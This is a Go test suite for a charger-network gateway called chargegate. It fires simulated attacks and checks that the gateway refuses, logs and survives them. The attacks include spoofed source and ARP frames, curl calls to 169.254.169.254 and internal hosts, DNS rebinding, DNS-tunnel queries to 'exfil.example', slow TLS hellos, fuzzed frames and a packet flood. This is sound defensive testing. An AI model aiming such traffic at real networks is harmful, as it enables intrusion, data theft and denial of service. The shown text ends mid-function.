package garage

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"chargegate/pkg/sim"
)

// tenants is a zone whose names a site allows with a pattern, and in which
// somebody else decides where they lead.
const tenants = "tenant.example"

// A siege is three devices on the chargers' network that mean no good, and what
// the others had before they came.
type siege struct {
	hostile, forger, flooder *sim.Host
	frames                   *sim.Forger
	conversations            map[string]int
	events                   int
}

// attacks is the table of docs/security.md, as far as no other test shows it: each
// attempt leads nowhere, the log says who made it, and everybody else is served
// meanwhile.
func attacks(t *testing.T) {
	s := &siege{hostile: connected(t, hostile), forger: connected(t, forger), flooder: connected(t, flooder), conversations: map[string]int{}}
	var err error
	if s.frames, err = garage.Forge(s.forger); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.frames.Close)
	for _, v := range garage.Views() {
		s.conversations[v.Name] = v.Conversations
	}
	s.events = len(garage.Gateway.Events())
	garage.Cloud.Witness.Forget()
	for _, attack := range []struct {
		name string
		try  func(*testing.T, *siege)
	}{
		{"a source that is not its own", forgedSources},
		{"another's address", anothersAddress},
		{"whatever listens on the box", whateverListens},
		{"addresses that are nobody's business", insideByAddress},
		{"names that lead inside", insideByName},
		{"by way of the gateway", byWayOfTheGateway},
		{"what is refused is what is told", refusedIsTold},
		{"names as a tunnel", namesAsATunnel},
		{"from outside, as a charger", fromOutsideAsACharger},
		{"first messages that never end", endlessHellos},
		{"answers that nobody reads", unreadAnswers},
		{"what is no message at all", rubbish},
		{"frames of every kind, broken in every way", brokenFrames},
		{"a flood of everything", floodOfEverything},
	} {
		t.Run(attack.name, func(t *testing.T) {
			attack.try(t, s)
			s.othersAreServed(t)
			unharmed(t)
		})
	}
	t.Run("the log and the disk after all this", func(t *testing.T) { s.littleIsWritten(t) })
}

// othersAreServed wants every charger to have kept the conversation that it had
// when the siege began, and another device to be served at once.
func (s *siege) othersAreServed(t *testing.T) {
	t.Helper()
	for _, v := range garage.Views() {
		if !v.Well() || v.Conversations != s.conversations[v.Name] {
			t.Errorf("%s stands at %s (%s), and has begun %d conversations with the hub instead of %d", v.Name, v.Stage, v.Trouble, v.Conversations, s.conversations[v.Name])
		}
	}
	began := time.Now()
	do(t, connected(t, desk), `this is `+sim.API, "curl", "-sS", "-m", "10", "--cacert", garage.Cloud.Authority.File, "https://"+sim.API+"/")
	if took := time.Since(began); took > 5*time.Second {
		t.Errorf("somebody else was served after %s", took)
	}
}

// own are the addresses of the box.
func own() []netip.Addr {
	return []netip.Addr{garage.Gateway.Address("P1"), garage.Gateway.Address("P2"), netip.MustParseAddr(sim.UplinkAddr)}
}

func ip(t *testing.T, h *sim.Host) netip.Addr {
	t.Helper()
	return netip.MustParseAddr(address(t, h))
}

// question is a DNS question for an address, as it stands in a datagram.
func question(id uint16, name string) []byte {
	q := binary.BigEndian.AppendUint16(nil, id)
	q = append(q, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
	for label := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// forgedSources asks for names, and calls the cloud, in the name of everybody who
// is not on this network.
func forgedSources(t *testing.T, s *siege) {
	gw := garage.Gateway.Address("P1")
	sources := append(own(), ip(t, connected(t, upstairs)))
	for _, a := range []string{"8.8.8.8", sim.RouterAddr, sim.HubAddr, "127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1", "169.254.7.7", "192.168.1.4"} {
		sources = append(sources, netip.MustParseAddr(a))
	}
	for i, from := range sources {
		err := s.frames.Send(
			s.frames.To(unix.ETH_P_IP, sim.SYN(netip.AddrPortFrom(from, 4000), netip.MustParseAddrPort(sim.APIAddr+":443"), 2)),
			s.frames.To(unix.ETH_P_IP, sim.UDP(netip.AddrPortFrom(from, 4000), netip.AddrPortFrom(gw, 53), question(1, fmt.Sprintf("forged-%d.%s", i, tenants)))))
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, from := range sources {
		said(t, forger, "denied-spoofed", "it came from "+from.String())
	}
	notAsked(t, "forged-")
}

// notAsked wants no question for a name to have gone on to the uplink's servers.
func notAsked(t *testing.T, part string) {
	t.Helper()
	for name := range garage.Cloud.Names.Asked() {
		if strings.Contains(name, part) {
			t.Errorf("somebody asked the uplink's servers for %s", name)
		}
	}
}

// anothersAddress takes the address of a neighbour, and the gateway's.
func anothersAddress(t *testing.T, s *siege) {
	victim := ip(t, connected(t, neighbour))
	before := len(garage.Gateway.Events())
	err := s.frames.Send(s.frames.To(unix.ETH_P_IP, sim.UDP(netip.AddrPortFrom(victim, 4000), netip.MustParseAddrPort(sim.ElsewhereIP+":4444"), []byte("?"))),
		s.frames.Announce(victim), s.frames.Announce(garage.Gateway.Address("P1")))
	if err != nil {
		t.Fatal(err)
	}
	said(t, forger, "denied-refused", "UDP port 4444")
	said(t, forger, "dhcp-address-claimed", victim.String())
	said(t, forger, "dhcp-gateway-claimed", garage.Gateway.Address("P1").String())
	for _, e := range garage.Gateway.Events()[before:] {
		if e.Charger == neighbour && strings.HasPrefix(e.ID, "denied-") {
			t.Errorf("the neighbour is blamed: %s", e.Message)
		}
	}
	if out, err := garage.Gateway.Space.Run(within(t, 5*time.Second), "ip", "neigh", "show", "to", garage.Gateway.Address("P1").String()); err != nil || out != "" {
		t.Errorf("the box takes somebody else for itself: %v %s", err, out)
	}
}

// whateverListens asks the box itself what listens, on every one of its addresses,
// and calls all of it at all of them, from both sides. The chargers find names over
// TCP, and nothing else.
func whateverListens(t *testing.T, s *siege) {
	// What an administrator may have installed, on every address.
	ssh, err := garage.Gateway.Space.Launch("busybox", "httpd", "-f", "-p", "22", "-h", sim.Dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ssh.Stop()
	eventually(t, 3*time.Second, "something listens on port 22", func() (bool, string) {
		conn, err := garage.Gateway.Space.Dial("tcp4", "127.0.0.1:22")
		if err == nil {
			conn.Close()
		}
		return err == nil, sprint(err)
	})
	listing, err := garage.Gateway.Space.Run(within(t, 5*time.Second), "ss", "-H", "-lntu")
	if err != nil {
		t.Fatalf("%v\n%s", err, listing)
	}
	ports := map[string][]uint16{}
	for line := range strings.Lines(listing) {
		f := strings.Fields(line)
		var port uint16
		if _, err := fmt.Sscan(f[4][strings.LastIndex(f[4], ":")+1:], &port); err != nil {
			t.Fatalf("%v in %q", err, line)
		}
		if !slices.Contains(ports[f[0]], port) {
			ports[f[0]] = append(ports[f[0]], port)
		}
	}
	for proto, want := range map[string][]uint16{"tcp": {22, 53, 9180, 18443}, "udp": {53, 67, 123, 323}} {
		for _, port := range want {
			if !slices.Contains(ports[proto], port) {
				t.Errorf("nothing listens on %s %d; this test looks at the wrong box:\n%s", proto, port, listing)
			}
		}
	}
	reached := func(from interface {
		Dial(network, addr string) (net.Conn, error)
	}, proto, addr string) bool {
		conn, err := from.Dial(proto+"4", addr)
		if err != nil {
			return false
		}
		defer conn.Close()
		return proto == "tcp" || answered(conn) == nil
	}
	for proto, all := range ports {
		for _, port := range all {
			for _, a := range own() {
				addr := netip.AddrPortFrom(a, port).String()
				// The gateway takes questions for names and the time whoever they are sent to.
				service := port == 53 || proto == "udp" && port == 123
				if reached(s.hostile.Space, proto, addr) && !service {
					t.Errorf("a charger reaches %s %s", proto, addr)
				}
				if reached(garage.Cloud.Space, proto, addr) {
					t.Errorf("from outside, %s %s can be reached", proto, addr)
				}
			}
		}
	}
	// Loopback, which a charger's own kernel would keep to itself.
	me := ip(t, s.forger)
	for _, port := range ports["tcp"] {
		frame := s.frames.To(unix.ETH_P_IP, sim.SYN(netip.AddrPortFrom(me, 4100), netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), port), 2))
		if err := s.frames.Send(frame); err != nil {
			t.Fatal(err)
		}
	}
	answer, err := s.frames.Hear(300*time.Millisecond, func(f []byte) bool { // SYN and ACK: names over TCP, by the redirect
		return len(f) >= 54 && f[23] == unix.IPPROTO_TCP && f[47]&0x12 == 0x12 && binary.BigEndian.Uint16(f[34:]) != 53
	})
	if err != nil || answer != nil {
		t.Errorf("the box's loopback answers a charger: %x, %v", answer, err)
	}
}

// insideByAddress calls what is near the box, by its address.
func insideByAddress(t *testing.T, s *siege) {
	for _, to := range []string{"169.254.169.254", "192.168.1.1", "10.1.2.3", sim.RouterAddr, sim.BystanderIP} {
		began := time.Now()
		out, err := s.hostile.Run(within(t, 10*time.Second), "curl", "-sS", "-m", "5", "http://"+to+"/")
		if err == nil || !regexp.MustCompile(`(?i)refused|couldn't connect`).MatchString(out) || time.Since(began) > 2*time.Second {
			t.Errorf("curl to %s: %v after %s, want a refusal at once\n%s", to, err, time.Since(began), out)
		}
		said(t, hostile, "denied-refused", "TCP port 80 of "+to)
	}
	// A name that is allowed, at an address inside: the name is dialled.
	for _, to := range []string{sim.RouterAddr, "169.254.169.254", "192.168.1.1"} {
		do(t, s.hostile, `(?i)served-by: `+sim.API, "curl", "-sS", "-i", "-m", "10", "--cacert", garage.Cloud.Authority.File,
			"--resolve", sim.API+":443:"+to, "https://"+sim.API+"/")
	}
}

// insideByName calls allowed names whose owner has let them lead inside: DNS
// rebinding. Nobody is dialled.
func insideByName(t *testing.T, s *siege) {
	targets := append(own(), ip(t, s.hostile), ip(t, connected(t, upstairs)))
	for _, a := range []string{"127.0.0.1", "127.83.0.1", "0.0.0.0", "169.254.169.254", "224.0.0.1", "255.255.255.255", "10.1.2.3", "172.16.5.4", "192.168.1.1", "100.64.0.1"} {
		targets = append(targets, netip.MustParseAddr(a))
	}
	for i, to := range targets {
		t.Run(to.String(), func(t *testing.T) { leadsInside(t, s, fmt.Sprintf("inside-%d.%s", i, tenants), to) })
	}
}

func leadsInside(t *testing.T, s *siege, name string, to netip.Addr) {
	garage.Cloud.Names.Set(name, 60, to.String())
	began := time.Now()
	out, err := s.hostile.Run(within(t, 15*time.Second), "curl", "-k", "-sS", "-m", "12", "--resolve", name+":443:"+sim.ElsewhereIP, "https://"+name+"/")
	if err == nil || time.Since(began) > 3*time.Second {
		t.Errorf("%v after %s, want a refusal at once\n%s", err, time.Since(began), out)
	}
	eventually(t, 3*time.Second, "the event", func() (bool, string) {
		for _, e := range garage.Gateway.Events() {
			if e.ID == "egress-unreachable" && e.Fields["NAME"] == name {
				return e.Fields["CAUSE"] == "address" && strings.Contains(e.Fields["ERROR"], to.String()), e.Message
			}
		}
		return false, "nothing"
	})
}

// byWayOfTheGateway sends to a neighbour, and to itself, through the gateway, which
// would have to send it back where it came from.
func byWayOfTheGateway(t *testing.T, s *siege) {
	there := connected(t, neighbour)
	server, err := there.Launch("busybox", "httpd", "-f", "-p", "7777", "-h", sim.Dir)
	if err != nil {
		t.Fatal(err)
	}
	defer server.Stop()
	do(t, s.hostile, ``, "ip", "route", "replace", address(t, there)+"/32", "via", garage.Gateway.Address("P1").String(), "dev", s.hostile.Iface)
	began := time.Now()
	out, err := s.hostile.Run(within(t, 10*time.Second), "curl", "-sS", "-m", "5", "http://"+address(t, there)+":7777/ca.pem")
	if err == nil || time.Since(began) > 2*time.Second {
		t.Errorf("curl to a neighbour by way of the gateway: %v after %s\n%s\nwant a refusal at once", err, time.Since(began), out)
	}
	said(t, hostile, "denied-refused", "TCP port 7777 of "+address(t, there)+" in its own network")
	me := ip(t, s.forger)
	if err := s.frames.Send(s.frames.To(unix.ETH_P_IP, sim.SYN(netip.AddrPortFrom(me, 4200), netip.AddrPortFrom(me, 7777), 2))); err != nil {
		t.Fatal(err)
	}
	said(t, forger, "denied-refused", "TCP port 7777 of "+me.String())
}

// refusedIsTold compares the two who judge the same frame and do not know of each
// other: the firewall, by its counters, and the daemon's watcher, by its metrics.
func refusedIsTold(t *testing.T, s *siege) {
	me, gw, other := ip(t, s.forger), garage.Gateway.Address("P1"), garage.Gateway.Address("P2")
	mine := netip.AddrPortFrom(me, 4250)
	at := func(a netip.Addr, port uint16) netip.AddrPort { return netip.AddrPortFrom(a, port) }
	api, elsewhere := netip.MustParseAddr(sim.APIAddr), netip.MustParseAddr(sim.ElsewhereIP)
	for _, c := range []struct {
		what    string
		packet  []byte
		refused int
	}{
		{"a call on an allowed port", sim.SYN(mine, at(api, 443), 2), 0},
		{"a question", sim.UDP(mine, at(gw, 53), question(9, sim.API)), 0},
		{"a question to another server", sim.UDP(mine, at(elsewhere, 53), question(9, sim.API)), 0},
		{"the time, of another server", sim.UDP(mine, at(elsewhere, 123), append([]byte{0x23}, make([]byte, 47)...)), 0},
		{"DHCP, from the address of another network", sim.UDP(netip.MustParseAddrPort("192.168.1.4:68"), at(gw, 67), nil), 0},
		{"a ping of the gateway", sim.IPv4(me, gw, unix.IPPROTO_ICMP, []byte{8, 0, 0xf7, 0xfd, 0, 1, 0, 1}), 0},
		{"a ping beyond it", sim.IPv4(me, elsewhere, unix.IPPROTO_ICMP, []byte{8, 0, 0xf7, 0xfd, 0, 1, 0, 1}), 1},
		{"DHCP of another network's gateway", sim.UDP(netip.AddrPortFrom(me, 68), at(other, 67), nil), 1},
		{"a call on another port", sim.SYN(mine, at(api, 8080), 2), 1},
		{"a call of another service of the box", sim.SYN(mine, at(other, 9180), 2), 1},
		{"the proxy itself", sim.SYN(mine, at(gw, 18443), 2), 1},
		{"a datagram", sim.UDP(mine, at(elsewhere, 443), nil), 1},
		{"GRE", sim.IPv4(me, elsewhere, 47, make([]byte, 8)), 1},
		{"a question from a forged address", sim.UDP(at(api, 4250), at(gw, 53), question(9, sim.API)), 1},
		{"the gateway's own address", sim.SYN(at(gw, 4250), at(api, 443), 2), 1},
	} {
		firewall, watcher := refusedSoFar(t), toldSoFar(t)
		if err := s.frames.Send(s.frames.To(unix.ETH_P_IP, c.packet)); err != nil {
			t.Fatal(err)
		}
		var byFirewall, byWatcher int
		for end := time.Now().Add(time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
			byFirewall, byWatcher = refusedSoFar(t)-firewall, toldSoFar(t)-watcher
			if byFirewall == c.refused && byWatcher == c.refused {
				break
			}
		}
		if byFirewall != c.refused || byWatcher != c.refused {
			t.Errorf("%s: the firewall refused %d, the watcher told %d, want %d", c.what, byFirewall, byWatcher, c.refused)
		}
	}
}

// refusedSoFar is what the firewall has refused to chargers of P1.
func refusedSoFar(t *testing.T) int {
	t.Helper()
	return met(t, "P1: source is not of this network") + met(t, "P1: source is no charger's") + metIn(t, "refuse_chargers", func(line string) bool { return !strings.Contains(line, "said to all") })
}

// toldSoFar is what the watcher has seen refused to chargers of P1, but for what
// was said to all.
func toldSoFar(t *testing.T) (n int) {
	t.Helper()
	page, err := garage.Gateway.Space.Run(within(t, 5*time.Second), "curl", "-sS", "-m", "3", "http://127.0.0.1:9180/metrics")
	if err != nil {
		t.Fatalf("%v\n%s", err, page)
	}
	for line := range strings.Lines(page) {
		var count int
		if rest, ok := strings.CutPrefix(line, `chargegate_denied_frames_total{class="`); ok && strings.Contains(rest, `"garage-p1"`) && !strings.HasPrefix(rest, "noise") {
			fmt.Sscan(line[strings.LastIndex(line, " "):], &count)
			n += count
		}
	}
	return n
}

// namesAsATunnel asks for names that nobody allowed, each with a piece of a
// message: they do not leave the box.
func namesAsATunnel(t *testing.T, s *siege) {
	me, gw := ip(t, s.forger), garage.Gateway.Address("P1")
	for i := range 300 {
		name := fmt.Sprintf("%063d.%032d.exfil.example", i, i)
		if err := s.frames.Send(s.frames.To(unix.ETH_P_IP, sim.UDP(netip.AddrPortFrom(me, uint16(5000+i)), netip.AddrPortFrom(gw, 53), question(uint16(i), name)))); err != nil {
			t.Fatal(err)
		}
	}
	eventually(t, 3*time.Second, "the names are said to be refused", func() (bool, string) {
		for _, e := range garage.Gateway.Events()[s.events:] {
			// A warning, if it has just asked for the API (F-7).
			if e.Charger == forger && strings.HasSuffix(e.ID, "name-refused") && strings.Contains(e.Message, "exfil.example") {
				return true, ""
			}
		}
		return false, ""
	})
	notAsked(t, "exfil")
}

// fromOutsideAsACharger calls the gateway from the uplink, with the address of a
// charger.
func fromOutsideAsACharger(t *testing.T, _ *siege) {
	charger := garage.Chargers[0].View().Binding.Addr.Addr()
	const comment = "a charger's address from outside"
	before := met(t, comment)
	if out, err := garage.Cloud.Space.Run(within(t, 5*time.Second), "ip", "route", "replace", garage.Gateway.Address("P1").String(), "via", sim.UplinkAddr); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	err := garage.Cloud.Space.Do(func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		for i, to := range own() {
			for _, p := range [][]byte{
				sim.UDP(netip.AddrPortFrom(charger, 4000), netip.AddrPortFrom(to, 53), question(uint16(i), "outside."+tenants)),
				sim.SYN(netip.AddrPortFrom(charger, 4000), netip.AddrPortFrom(to, 443), 2),
			} {
				if err := unix.Sendto(fd, p, 0, &unix.SockaddrInet4{Addr: garage.Gateway.Address("P1").As4()}); err != nil {
					return err
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	eventually(t, 3*time.Second, "the firewall counts them", func() (bool, string) {
		now := met(t, comment)
		return now-before == 2*len(own()), fmt.Sprint(now - before)
	})
	notAsked(t, "outside.")
}

// met returns how often the rules of a comment were met.
func met(t *testing.T, comment string) (n int) {
	t.Helper()
	return metIn(t, "", func(line string) bool { return strings.Contains(line, `comment "`+comment+`"`) })
}

// metIn returns how often those rules of a chain, or of all, were met.
func metIn(t *testing.T, chain string, those func(line string) bool) (n int) {
	t.Helper()
	out, err := garage.Gateway.Space.Run(within(t, 5*time.Second), "nft", "list", "table", "inet", "chargegate")
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	in := ""
	for line := range strings.Lines(out) {
		if name, ok := strings.CutPrefix(line, "\tchain "); ok {
			in, _, _ = strings.Cut(name, " ")
		}
		if _, rest, ok := strings.Cut(line, "counter packets "); ok && (chain == "" || chain == in) && those(line) {
			var packets int
			fmt.Sscan(rest, &packets)
			n += packets
		}
	}
	return n
}

// endlessHellos opens more calls than one device may have, and says what it wants
// one byte at a time.
func endlessHellos(t *testing.T, s *siege) {
	const calls = 40
	record := append([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}, make([]byte, 500)...)
	before := len(garage.Gateway.Events())
	var conns []net.Conn
	for range calls {
		if conn, err := s.flooder.Space.Dial("tcp4", sim.APIAddr+":443"); err == nil {
			conns = append(conns, conn)
		}
	}
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	living := 0
	for i := range 5 { // a second
		living = 0
		for _, c := range conns {
			if _, err := c.Write(record[i : i+1]); err == nil {
				living++
			}
		}
		if i == 2 {
			s.othersAreServed(t)
		}
		time.Sleep(200 * time.Millisecond)
	}
	if living > 8 {
		t.Errorf("%d calls of one device are open, want 8 at most", living)
	}
	eventually(t, 3*time.Second, "the one who holds so many is named", func() (bool, string) {
		for _, e := range garage.Gateway.Events()[before:] {
			if e.Charger == flooder && strings.HasPrefix(e.ID, "egress-") {
				return true, ""
			}
		}
		return false, ""
	})
}

// unreadAnswers asks for more and more in as many conversations as one device may
// have, and reads nothing. What waits for it waits in the kernel, which nobody sees
// in the daemon's own memory, and within bounds.
func unreadAnswers(t *testing.T, s *siege) {
	pid := garage.Gateway.Daemon.PID()
	before, err := sim.Resident(pid)
	if err != nil {
		t.Fatal(err)
	}
	socketsBefore, pipesBefore := inSockets(t), inPipes(t, pid)
	ask := bytes.Repeat([]byte("GET / HTTP/1.1\r\nHost: "+sim.API+"\r\n\r\n"), 100)
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			conn, err := s.flooder.Space.Dial("tcp4", sim.APIAddr+":443")
			if err != nil {
				return // the calls before have not all been given up yet
			}
			defer conn.Close()
			conn.SetDeadline(time.Now().Add(2 * time.Second))
			deaf := tls.Client(conn, &tls.Config{ServerName: sim.API, InsecureSkipVerify: true})
			for { // until nothing more fits anywhere
				if _, err := deaf.Write(ask); err != nil {
					return
				}
			}
		})
	}
	time.Sleep(time.Second)
	sockets, pipes := inSockets(t)-socketsBefore, inPipes(t, pid)-pipesBefore
	s.othersAreServed(t)
	after, err := sim.Resident(pid)
	if err != nil {
		t.Fatal(err)
	}
	all.Wait()
	t.Logf("%d KiB waited in sockets, %d KiB in pipes; the daemon has grown by %d KiB", sockets>>10, pipes>>10, (after-before)>>10)
	if sockets+pipes < 1<<20 {
		t.Errorf("%d bytes waited in sockets and %d in pipes: nothing was shown", sockets, pipes)
	}
	// Each conversation has two queues of 1 MiB and two of 512 KiB (systemd/sysctl.d), which the kernel
	// takes as a mark and not as a wall, and a pipe each way.
	if sockets+pipes > 32<<20 {
		t.Errorf("%d KiB waited in sockets and %d KiB in pipes", sockets>>10, pipes>>10)
	}
	if grown := after - before; grown > 8<<20 {
		t.Errorf("the daemon has grown by %d KiB", grown>>10)
	}
	for end := time.Now().Add(15 * time.Second); inPipes(t, pid) > pipesBefore; time.Sleep(100 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("%d KiB are still in pipes", inPipes(t, pid)>>10)
		}
	}
}

// inSockets is how much memory the queues of all TCP connections of the gateway
// take (ss(8), skmem: r and w).
func inSockets(t *testing.T) (sum int) {
	t.Helper()
	listing, err := garage.Gateway.Space.Run(within(t, 5*time.Second), "ss", "-Htnm")
	if err != nil {
		t.Fatal(err, listing)
	}
	for _, m := range regexp.MustCompile(`skmem:\(r(\d+),rb\d+,t\d+,tb\d+,f\d+,w(\d+),`).FindAllStringSubmatch(listing, -1) {
		for _, field := range m[1:] {
			n, err := strconv.Atoi(field)
			if err != nil {
				t.Fatal(err)
			}
			sum += n
		}
	}
	return sum
}

// inPipes is how many bytes are in the pipes that a process has.
func inPipes(t *testing.T, pid int) (sum int) {
	t.Helper()
	fds, err := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, fd := range fds {
		what, err := os.Readlink(fd)
		if err != nil || !strings.HasPrefix(what, "pipe:") || seen[what] { // it may be closed by now
			continue
		}
		seen[what] = true
		end, err := unix.Open(fd, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		n, err := unix.IoctlGetInt(end, unix.TIOCINQ) // FIONREAD by its other name
		unix.Close(end)
		if err != nil {
			t.Fatal(err)
		}
		sum += n
	}
	return sum
}

// rubbish says what is neither TLS nor HTTP nor anything else, on every port where
// the gateway listens for chargers.
func rubbish(t *testing.T, s *siege) {
	random := rand.New(rand.NewPCG(1, 2))
	for i := range 60 {
		port := []string{"443", "8883", "53"}[i%3]
		conn, err := s.flooder.Space.Dial("tcp4", sim.APIAddr+":"+port)
		if err != nil {
			continue
		}
		b := make([]byte, 1+random.IntN(2000))
		for j := range b {
			b[j] = byte(random.Uint32())
		}
		switch i % 6 {
		case 0: // a record of TLS, and then not
			copy(b, []byte{22, 3, 1, byte(i), 0, 1, 0, 0, byte(i)})
		case 1:
			copy(b, "SSH-2.0-OpenSSH_9.6\r\n")
		case 3:
			copy(b, "GET http://169.254.169.254/ HTTP/1.1\r\nHost: \x00\r\n")
		}
		conn.Write(b)
		conn.Close()
	}
}

// brokenFrames sends frames of every protocol that the gateway, or its kernel,
// knows, each with a few bytes changed, cut short, or with more behind.
func brokenFrames(t *testing.T, s *siege) {
	me, gw := ip(t, s.forger), garage.Gateway.Address("P1")
	from := netip.AddrPortFrom(me, 4300)
	discover := append([]byte{1, 1, 6, 0, 1, 2, 3, 4}, make([]byte, 228)...)
	copy(discover[28:], s.frames.MAC[:])
	discover = append(discover, 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 55, 3, 1, 3, 6, 255)
	options := sim.IPv4(me, gw, unix.IPPROTO_ICMP, []byte{8, 0, 0xf7, 0xfd, 0, 1, 0, 1})
	options = slices.Insert(options, 20, 7, 7, 4, 0, 0, 0, 0, 0) // record route
	options[0] = 0x47
	fragment := sim.UDP(from, netip.AddrPortFrom(gw, 53), make([]byte, 64))
	fragment[6] = 0x20
	solicit := slices.Concat([]byte{0x60, 0, 0, 0, 0, 8, 58, 255}, netip.MustParseAddr("fe80::1").AsSlice(), netip.MustParseAddr("ff02::2").AsSlice(), []byte{133, 0, 0, 0, 0, 0, 0, 0})
	seeds := [][]byte{
		s.frames.To(unix.ETH_P_IP, sim.UDP(netip.AddrPortFrom(me, 68), netip.AddrPortFrom(gw, 67), discover)),
		s.frames.To(unix.ETH_P_IP, sim.UDP(from, netip.AddrPortFrom(gw, 53), question(7, sim.API))),
		s.frames.To(unix.ETH_P_IP, sim.UDP(from, netip.AddrPortFrom(gw, 123), append([]byte{0x23}, make([]byte, 47)...))),
		s.frames.To(unix.ETH_P_IP, sim.SYN(from, netip.MustParseAddrPort(sim.APIAddr+":443"), 2)),
		s.frames.To(unix.ETH_P_IP, sim.SYN(from, netip.AddrPortFrom(gw, 18443), 0x29)), // FIN, PSH, URG
		s.frames.To(unix.ETH_P_IP, sim.SYN(from, netip.AddrPortFrom(gw, 443), 0)),
		s.frames.To(unix.ETH_P_IP, options), s.frames.To(unix.ETH_P_IP, fragment),
		s.frames.To(unix.ETH_P_IP, sim.IPv4(me, gw, 47, make([]byte, 40))), // GRE
		s.frames.To(unix.ETH_P_IP, sim.IPv4(me, netip.MustParseAddr("224.0.0.1"), 2, []byte{0x11, 0, 0xee, 0xff, 0, 0, 0, 0})),
		s.frames.To(unix.ETH_P_IPV6, solicit), s.frames.Announce(me),
		s.frames.To(0x88cc, make([]byte, 60)), s.frames.To(0x888e, make([]byte, 60)), // LLDP, EAPOL
		s.frames.To(0x8100, append([]byte{0, 1, 8, 0}, sim.SYN(from, netip.AddrPortFrom(gw, 443), 2)...)), // VLAN 1
		s.frames.To(0x8863, make([]byte, 60)), s.frames.To(0x0003, make([]byte, 60)), // PPPoE, LLC
	}
	random := rand.New(rand.NewPCG(3, 4))
	for i := range 8000 {
		frame := slices.Clone(seeds[i%len(seeds)])
		for range 1 + random.IntN(6) {
			if at := 12 + random.IntN(len(frame)-12); random.IntN(8) == 0 || at > 13 { // seldom another protocol
				frame[at] ^= byte(1 + random.IntN(255))
			}
		}
		switch random.IntN(6) {
		case 0:
			frame = frame[:14+random.IntN(len(frame)-14)]
		case 1:
			frame = append(frame, make([]byte, random.IntN(1400))...)
		}
		if err := s.frames.Send(frame); err != nil {
			t.Fatal(err)
		}
	}
}

// floodOfEverything sends as fast as it can, from every address of the network and
// from MACs that it makes up: calls, questions, requests for addresses, ARP, and
// what is refused. Meanwhile a charger's question is answered, and afterwards
// everybody is served as before.
func floodOfEverything(t *testing.T, s *siege) {
	gw := garage.Gateway.Address("P1")
	subnet := garage.Gateway.Addresses["garage-p1"].Masked()
	taken := map[netip.Addr]bool{gw: true}
	for name, addr := range addresses(t) {
		if a, err := netip.ParseAddr(addr); err == nil && name != forger {
			taken[a] = true // a flood in another's name is another attack
		}
	}
	var free []netip.Addr
	for a := subnet.Addr().Next(); subnet.Contains(a.Next()); a = a.Next() {
		if !taken[a] {
			free = append(free, a)
		}
	}
	ctx, stop := context.WithCancel(t.Context())
	var all sync.WaitGroup
	sent := 0
	began := time.Now()
	all.Go(func() {
		discover := append([]byte{1, 1, 6, 0, 1, 2, 3, 4}, make([]byte, 228)...)
		discover = append(discover, 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255)
		for ; sent < 20_000 && ctx.Err() == nil; sent++ {
			from := netip.AddrPortFrom(free[sent%len(free)], uint16(10_000+sent))
			mac := [6]byte{2, 0xf1, 0, byte(sent >> 16), byte(sent >> 8), byte(sent)}
			var p []byte
			ether := uint16(unix.ETH_P_IP)
			switch sent % 7 {
			case 0:
				p = sim.SYN(from, netip.MustParseAddrPort(sim.APIAddr+":443"), 2)
			case 1:
				p = sim.UDP(from, netip.AddrPortFrom(gw, 53), question(uint16(sent), fmt.Sprintf("flood-%d.example.org", sent)))
			case 2:
				p = sim.UDP(from, netip.AddrPortFrom(gw, 123), append([]byte{0x23}, make([]byte, 47)...))
			case 3:
				p = sim.UDP(from, netip.MustParseAddrPort("8.8.8.8:53"), question(uint16(sent), sim.API))
			case 4:
				copy(discover[28:], mac[:])
				p = sim.UDP(netip.MustParseAddrPort("0.0.0.0:68"), netip.MustParseAddrPort("255.255.255.255:67"), discover)
			case 5:
				ether = unix.ETH_P_ARP
				p = s.frames.Announce(from.Addr())[14:]
				copy(p[8:], mac[:])
			case 6:
				p = sim.UDP(from, netip.MustParseAddrPort(sim.ElsewhereIP+":4444"), nil)
			}
			if s.frames.Send(sim.Frame(mac, s.frames.Gateway, ether, p)) != nil {
				return
			}
		}
	})
	h := connected(t, desk)
	out, err := h.Run(within(t, 10*time.Second), "dig", "+short", "+tries=3", "+time=1", "@"+gw.String(), sim.API)
	if err != nil || !strings.Contains(out, sim.APIAddr) {
		t.Errorf("during the flood, a question was answered %q, %v", out, err)
	}
	all.Wait()
	stop()
	t.Logf("%d frames in %s", sent, time.Since(began).Round(time.Millisecond))
	eventually(t, 10*time.Second, "somebody else can call again", func() (bool, string) {
		out, err := h.Run(within(t, 10*time.Second), "curl", "-sS", "-m", "2", "--cacert", garage.Cloud.Authority.File, "https://"+sim.API+"/")
		return err == nil, out
	})
	notAsked(t, "flood-")
}

// littleIsWritten looks at what the whole siege cost the log and the disk.
func (s *siege) littleIsWritten(t *testing.T) {
	lines := map[string]int{}
	total := 0
	for _, e := range garage.Gateway.Events()[s.events:] {
		if e.Priority != "7" { // debug is only shown to who asks for it
